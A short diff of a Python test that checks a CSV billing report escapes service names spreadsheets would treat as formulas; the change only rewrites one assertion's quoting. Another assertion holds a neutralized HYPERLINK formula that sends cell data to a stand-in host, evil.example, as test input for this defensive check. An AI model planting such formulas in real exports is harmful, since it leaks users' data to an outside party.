@@ -155,7 +155,7 @@ async def test_names_that_spreadsheets_read_as_formulas_are_neutralized(api: Api
         await ledger.name(service_id, name)
         await ledger.charge(service_id, 123_450 + service_id, NOV)
     text = await report_csv(api, "2025-11")
-    assert text.startswith('service;total\r\n\'\tx;1234.55\r\n"\'\rx";1234.56\r\n\'+1;1234.52\r\n')
+    assert text.startswith("service;total\r\n'\tx;1234.55\r\n\"'\rx\";1234.56\r\n'+1;1234.52\r\n")
     assert '\r\n"\'=HYPERLINK(""http://evil.example/?leak=""&A1;""click"")";1234.51\r\n' in text
     rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
     assert rows == [
